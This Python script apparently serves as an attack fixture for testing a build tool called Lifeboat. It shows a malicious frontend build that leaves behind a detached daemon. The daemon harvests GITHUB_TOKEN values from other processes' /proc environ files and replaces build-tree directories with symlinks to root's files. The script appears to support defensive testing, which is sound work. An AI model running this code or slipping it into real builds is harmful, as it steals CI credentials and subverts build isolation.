#!/usr/bin/env python3
# Copyright: Lifeboat contributors
# GNU General Public License v3.0 or later (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The attack: a frontend's build leaves a process behind, which waits for what root does next.

It is the build of a hostile commit, and uses what any program can use. What it leaves has a session of its own. That

* reads the environment of every process that it may, for a token;
* turns a directory of the next build's tree into a link to a directory of root's, so that a root who gives the tree
  away by path gives his own files away.

Usage: left_behind.py LOOT TARGET TREES

LOOT: a directory that all may write to: `lock` is held for as long as the process lives, `token` is what it found.
TARGET: root's directory, with a file `victim`. TREES: a pattern of paths, where the trees of builds are.

hostile_build.py has it built by Lifeboat, and without protection.
"""

from __future__ import annotations

import fcntl
import os
import sys
import time
from pathlib import Path


def main(loot: Path, target: str, trees: str) -> None:
    Path("dist").mkdir()
    Path("dist/index.html").write_text("harmless")
    Path("dist/version.txt").write_text(os.environ["GITHUB_SHA"])
    held, told = os.pipe()
    if os.fork():
        os.close(told)
        os.read(held, 1)  # it is at its place
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    with (loot / "lock").open("w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        lock.write(str(os.getpid()))
        lock.flush()
        nothing = os.open(os.devnull, os.O_RDWR)
        os.write(told, b"x")
        for handle in (0, 1, 2, held, told):
            os.dup2(nothing, handle)
        end = time.monotonic() + 300  # longer than anybody waits for its end
        while time.monotonic() < end:
            look(loot, target, trees)
            time.sleep(0.01)


def look(loot: Path, target: str, trees: str) -> None:
    for place in Path("/proc").glob("[0-9]*/environ"):
        try:
            found = [word for word in place.read_bytes().split(b"\0") if word.startswith(b"GITHUB_TOKEN=")]
        except OSError:
            continue
        if found:
            whole = loot / f"token.{os.getpid()}"
            whole.write_bytes(found[0])
            whole.replace(loot / "token")  # who reads it meanwhile never finds it empty
    for tree in Path("/").glob(trees[1:]):
        place = Path(tree, "x/y")
        try:
            if place.is_dir() and not place.is_symlink():
                place.rename(f"{place}.mine")
                place.symlink_to(target)
        except OSError:
            continue


if __name__ == "__main__":
    main(Path(sys.argv[1]), sys.argv[2], sys.argv[3])
